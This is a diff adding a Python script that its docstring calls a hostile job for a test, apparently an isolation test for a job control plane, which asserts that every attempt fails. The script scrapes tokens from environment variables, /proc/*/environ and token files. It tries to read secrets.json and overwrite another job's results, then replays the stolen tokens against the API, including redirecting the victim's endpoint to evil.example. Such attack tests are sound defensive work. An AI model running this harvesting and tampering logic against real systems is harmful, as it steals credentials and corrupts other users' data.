@@ -1,0 +1,94 @@
+"""A hostile job: looks for an agent credential wherever a job could find one, then uses
+whatever it found (or nothing) to tamper with the job named in VICTIM: overwrite its
+results, point its endpoint elsewhere, read its results. Writes what it found and what each
+request answered to results/attack.json; the test asserts that all of it failed."""
+import glob
+import json
+import os
+import re
+import urllib.request
+
+CP = os.environ["CP"]
+VICTIM = os.environ["VICTIM"]
+report = {"env": sorted(os.environ), "home": os.environ.get("HOME"), "uid": os.getuid()}
+
+# Anything that looks like a credential: in our own environment, in any process's
+# environment (the agent's among them), in any file named like a token nearby.
+found = set()
+for key, value in os.environ.items():
+    if "TOKEN" in key or "SECRET" in key:
+        found.add(value)
+readable = []
+for path in glob.glob("/proc/[0-9]*/environ"):
+    try:
+        with open(path, "rb") as handle:
+            entries = handle.read().split(b"\0")
+    except OSError:
+        continue
+    readable.append(path)
+    for entry in entries:
+        key, _, value = entry.decode(errors="replace").partition("=")
+        if re.search("TOKEN|SECRET", key) and value:
+            found.add(value)
+for path in glob.glob("../../*token*") + glob.glob("../../../*/*token*"):
+    try:
+        with open(path) as handle:
+            found.add(handle.read().strip())
+    except OSError:
+        pass
+report["found"] = len(found)
+
+# The control plane's state folder holds every job's results: the job's folder is
+# <state>/instances/<instance>/jobs/<job>, so it is four levels up.
+state = os.path.abspath("../../../..")
+stolen = os.path.join(state, "artifacts", "jobs", VICTIM, "results", "model.json")
+report["files"] = {}
+for what, action in [
+    ("list the state folder", lambda: os.listdir(state)),
+    ("read the state's secrets", lambda: open(os.path.join(state, "secrets.json")).read()),
+    ("read the victim's results", lambda: open(stolen).read()),
+    ("overwrite the victim's results", lambda: open(stolen, "w").write('{"tampered": true}')),
+    ("list the other instances", lambda: os.listdir(os.path.join(state, "instances"))),
+]:
+    try:
+        action()
+        report["files"][what] = "done"
+    except OSError as error:
+        report["files"][what] = error.strerror
+
+
+def attempt(what, method, url, token, body=None):
+    request = urllib.request.Request(CP + url, data=body, method=method)
+    if token:
+        request.add_header("authorization", "Bearer " + token)
+    request.add_header("content-type", "application/json")
+    try:
+        with urllib.request.urlopen(request, timeout=10) as response:
+            status = response.status
+    except urllib.error.HTTPError as error:
+        status = error.code
+    except OSError as error:
+        status = str(error)
+    report.setdefault("attempts", []).append({"what": what, "status": status})
+
+
+for token in sorted(found) + [None]:
+    attempt(
+        "overwrite results",
+        "PUT",
+        "/agent/v1/artifacts/jobs/%s/results/model.json" % VICTIM,
+        token,
+        json.dumps({"tampered": True}).encode(),
+    )
+    attempt(
+        "set endpoint",
+        "POST",
+        "/agent/v1/jobs/%s/endpoint" % VICTIM,
+        token,
+        json.dumps({"url": "http://evil.example/"}).encode(),
+    )
+    attempt("read results", "GET", "/agent/v1/artifacts/jobs/%s/results/model.json" % VICTIM, token)
+
+os.makedirs("results", exist_ok=True)
+with open("results/attack.json", "w") as handle:
+    json.dump(report, handle)
